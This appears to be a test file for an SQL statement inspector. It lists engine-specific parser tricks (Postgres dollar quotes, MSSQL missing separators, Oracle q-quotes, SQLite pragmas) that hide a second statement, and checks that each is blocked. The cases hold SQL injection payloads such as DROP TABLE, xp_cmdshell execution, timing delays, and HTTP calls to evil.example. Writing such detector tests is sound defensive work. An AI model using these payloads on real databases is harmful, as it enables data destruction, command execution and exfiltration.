/** Statements of which each engine reads something else than a reader would who knows SQL in general. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type Engine, judgeStatement } from '../../src/inspect/sql.ts'
import { judgeLiteral } from '../../src/inspect/sql-literal.ts'

/** A second statement, hidden from whoever takes it for a text, a comment or a name. */
const HIDDEN: readonly (readonly [why: string, engine: Engine, statement: string])[] = [
  ['a carriage return ends a comment', 'postgres', 'SELECT 1 -- x\r; DROP TABLE a'],
  ['a tag of dollars need not be ASCII', 'postgres', "SELECT $é$ ' $é$; DROP TABLE x; --'"],
  ['a tag of dollars may be long', 'postgres', `SELECT $${'a'.repeat(70)}$ ' $${'a'.repeat(70)}$; DROP TABLE x; --'`],
  ['an at sign is an operator', 'postgres', "SELECT array['x'] <@$${x,'}$$ ; DROP TABLE a; --'"],
  ['a backtick is an operator', 'postgres', 'SELECT 1 ` ; DROP TABLE a; ` 1'],
  ['a space that does not break is part of a name', 'postgres', 'SELECT 1 AS \u00a0$$ ; DROP TABLE x; SELECT 1 AS \u00a0$$'],
  ['a text with backslashes goes on behind a line end', 'postgres', "SELECT E'a'\n'\\' || '; DROP TABLE x; --'"],
  ['and behind a comment', 'postgres', "SELECT E'a' --c\n'\\' || '; DROP TABLE x; --'"],
  ['a name of escapes is another name', 'postgres', 'SELECT U&"pg\\005fsleep"(5)'],
  ['whose escapes may begin otherwise', 'postgres', 'SELECT U&"pg!005fsleep" UESCAPE \'!\' (5)'],
  ['a text in brackets of its own', 'oracle', "SELECT q'[']' || utl_http.request('http://evil.example') || q'[']' FROM dual"],
  ['no sign stands between statements', 'mssql', 'SELECT 1 DELETE FROM users'],
  ['nor behind a condition', 'mssql', 'SELECT a FROM t WHERE b = 1 DROP TABLE users'],
  ['nor in front of a procedure', 'mssql', "SELECT 1 EXEC xp_cmdshell 'dir'"],
  ['nor in front of what waits', 'mssql', "SELECT 1 WAITFOR DELAY '0:0:9'"],
  ['nor in front of a change', 'mssql', 'SELECT name FROM t UPDATE users SET role = 1'],
  ['a pragma is set in brackets', 'sqlite', 'PRAGMA writable_schema(1)'],
  ['of a schema too', 'sqlite', 'PRAGMA main.journal_mode(DELETE)'],
  ['some do something by being named', 'sqlite', 'PRAGMA optimize'],
  ['a function runs a text', 'postgres', "SELECT * FROM ts_stat('select 1')"],
  ['another reaches out', 'postgres', "SELECT net.http_post('http://evil.example')"],
  ['a sequence goes on', 'postgres', "SELECT nextval('s')"],
]

describe('a statement that an engine reads as more than it seems', () => {
  for (const [why, engine, statement] of HIDDEN) {
    test(`is stopped for ${engine}, and for whoever does not say which: ${why}`, () => {
      assert.notEqual(judgeStatement(statement, { engine }), undefined)
      assert.notEqual(judgeStatement(statement, {}), undefined)
    })
  }

  test('is stopped where it may write too, when it runs a program', () => {
    assert.equal(judgeStatement("EXEC master..xp_cmdshell 'dir'", { engine: 'mssql', readOnly: false }), 'sql-function')
  })
})

test('what only reads is let through, in the words of its engine', () => {
  const honest: readonly (readonly [Engine, string])[] = [
    ['postgres', 'SELECT 1 -- a comment\r\nFROM t'],
    ['postgres', "SELECT $é$ it's $é$"],
    ['postgres', "SELECT tags @> ARRAY['x'], @ -5 FROM t"],
    ['postgres', "SELECT E'a\\'b', 'c'"],
    ['postgres', 'SELECT "update", delete FROM t WHERE exec = 1'],
    ['postgres', 'SELECT a AS create, b merge FROM t ORDER BY backup'],
    ['oracle', "SELECT q'[it's]' FROM dual"],
    ['mssql', 'SELECT TOP 5 [update], [Set] FROM [dbo].[exec] ORDER BY [drop]'],
    ['mysql', 'SHOW CREATE TABLE users'],
    ['sqlite', 'PRAGMA table_info(users)'],
    ['sqlite', 'PRAGMA main.index_list("users")'],
    ['sqlite', 'PRAGMA user_version'],
    ['mysql', 'SELECT `key`, `update` FROM `order`'],
  ]
  for (const [engine, statement] of honest) {
    assert.equal(judgeStatement(statement, { engine }), undefined, statement)
  }
})

test('dashes behind a text with backslashes are one comment, read once', () => {
  const before = performance.now()
  for (const count of [64, 4_000]) assert.notEqual(judgeStatement(`SELECT E''${'-'.repeat(count)}x\n; DROP TABLE a`, {}), undefined)
  assert.ok(performance.now() - before < 2_000)
})

test('a condition with any number of nots is read without going deeper for each', () => {
  for (const count of [1, 9_000]) assert.equal(judgeLiteral(`' or x ${'not '.repeat(count)}in (1) --`), 'sql-injection')
})
